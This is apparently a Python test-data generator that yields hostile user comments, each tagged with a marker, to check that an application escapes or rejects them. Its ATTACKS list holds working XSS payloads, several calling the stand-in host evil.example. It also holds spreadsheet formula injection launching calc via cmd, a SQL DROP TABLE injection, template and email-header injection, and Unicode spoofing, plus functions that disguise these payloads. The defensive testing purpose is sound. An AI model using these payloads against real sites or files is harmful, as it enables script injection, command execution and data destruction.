"""Comments that mean harm, as many as asked for: each an attack in some disguise, and never the same twice.

Every one carries ``MARK``, so that a test finds it again wherever it must not be.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

MARK = "qzx"

ATTACKS = (
    "<script>alert('{m}')</script>",
    "<ScRiPt src=//evil.example/{m}.js></sCrIpT>",
    "<img src=x onerror=alert('{m}')>",
    "<svg/onload=alert('{m}')><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>{m}",
    '<a href="javascript:alert(1)" onclick="alert(2)">{m}</a>',
    "<a href='data:text/html;base64,PHNjcmlwdD4='>{m}</a>",
    "<style>@import '//evil.example/{m}.css'</style><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=csrf_token value={m}><button>Publish</button></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>{m}",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>{m}",
    "</textarea></title></script></div></li></ol></main><h1>{m}</h1>",
    "<!--><script>alert(1)</script--><![CDATA[<b>{m}]]>",
    "\"'><script>{m}</script>",
    "' autofocus onfocus=alert(1) x='{m}",
    "{{ 7 * 7 }}{% raise %}{{ config }}#{{7*7}}${{7*7}} {m}",
    '=HYPERLINK("http://evil.example/{m}","open")',
    "=cmd|'/c calc'!A1 {m}",
    "+1+cmd|' /C notepad'!A0 {m}",
    "-2+3+cmd|' /C calc'!D2 {m}",
    "@SUM(1+1)*cmd|' /C calc'!A0 {m}",
    "\t=1+1 {m}",
    '\r\n=1+1,{m}\r\n"";=2+2',
    "\uff1d1+1 {m}",
    "\u200b=1+1 {m}",
    "'; DROP TABLE comments; -- {m}",
    "%' OR 1=1 ESCAPE '\\ {m}",
    "\u202egnissem elbarit {m}\u202c and \u2066back\u2069",
    "\u202d\u202e\u2067{m}",
    "\x00{m}\x00\x07\x1b[31mred\x1b[0m\x9b",
    "\ud800{m}\udfff \udc80",
    "\ufeff\ufffe\uffff{m}\U0010ffff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324{m}" * 20,
    "\u0430dm\u0456n{m} p\u0430yp\u0430l",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 50 + "{m}",
    "\U000e0041\U000e0042\U000e0043{m}\U000e007f",
    "&#60;script&#62;alert(1)&#60;/script&#62; &lt;img src=x onerror=alert(1)&gt;{m}",
    "&#x202e;&#0;&#xd800;&#1114112;&amp;lt;{m}",
    "Subject: {m}\r\nBcc: everybody@evil.example\r\n\r\nHello",
    "http://user:pass@oak.example/%2e%2e/%00?{m} HTTP://[::1]:99999/",
    "{m}" + "a" * 60_000,
    "{m}" + "<b>" * 15_000,
    "{m}" + "@" * 10_000,
    "{m}" + "\u0301" * 5_000,
    "{m}" + " =" * 20_000,
    "{m} 077009001234567890" * 500,
    "{m} https://a.b/" * 2_000,
    "{m}" + "&lt;" * 10_000,
    "{m}\n" * 20_000,
)
"""``{m}`` is where the mark stands."""

LOOKALIKES = str.maketrans({"a": "\u0430", "e": "\u0435", "o": "\u043e", "s": "\u0455", "<": "\uff1c", "=": "\uff1d"})
HIDDEN = ("\u200b", "\u00ad", "\u2060", "\u202e", "\u0000", "\u034f", "\ud83d")
LONGEST = 65_536
USUAL = 2_000
"""What most of the later ones are cut to: what is 64 KB long comes often enough among the first."""


def hostile_comments(number: int, chance: random.Random) -> Iterator[str]:
    """So many of them; the plain attacks come first, and of the disguised ones every tenth stays as long as it is."""
    for place in range(number):
        text = ATTACKS[place % len(ATTACKS)].replace("{m}", f"{MARK}{place}")
        if place >= len(ATTACKS):
            for disguise in chance.sample(DISGUISES, chance.randint(1, 2)):
                text = disguise(text, chance)
        yield text[: LONGEST if place < 2 * len(ATTACKS) or place % 10 == 0 else USUAL]


def hostile_short(number: int, chance: random.Random) -> Iterator[str]:
    """The same for what is short: a name, a title, a note."""
    for text in hostile_comments(number, chance):
        yield text[:120]


def _in_other_letters(text: str, chance: random.Random) -> str:
    return text.translate(LOOKALIKES) if chance.random() < 0.7 else text.swapcase()


def _with_something_hidden(text: str, chance: random.Random) -> str:
    place = chance.randrange(min(len(text), 200) + 1)
    return text[:place] + chance.choice(HIDDEN) * chance.randint(1, 40) + text[place:]


def _behind_harmless_words(text: str, chance: random.Random) -> str:
    return "I like your castle. " * chance.randint(1, 60) + text


def _in_front_of_others(text: str, chance: random.Random) -> str:
    return text + chance.choice(ATTACKS[:40]).replace("{m}", MARK)


def _read_wrongly(text: str, chance: random.Random) -> str:
    """As a host with a broken encoding would send it."""
    coded = text[:5_000].encode("utf-8", "surrogatepass")
    wrong = chance.choice(("latin-1", "cp1252", "utf-16-le", "utf-7"))
    return coded.decode(wrong, "replace")


def _cut_and_doubled(text: str, chance: random.Random) -> str:
    cut = text[chance.randrange(min(len(text), 50) + 1) :]
    return (cut + "\n") * min(chance.randint(1, 30), LONGEST // (len(cut) + 1) + 1)


DISGUISES: tuple[Callable[[str, random.Random], str], ...] = (
    _in_other_letters,
    _with_something_hidden,
    _behind_harmless_words,
    _in_front_of_others,
    _read_wrongly,
    _cut_and_doubled,
)
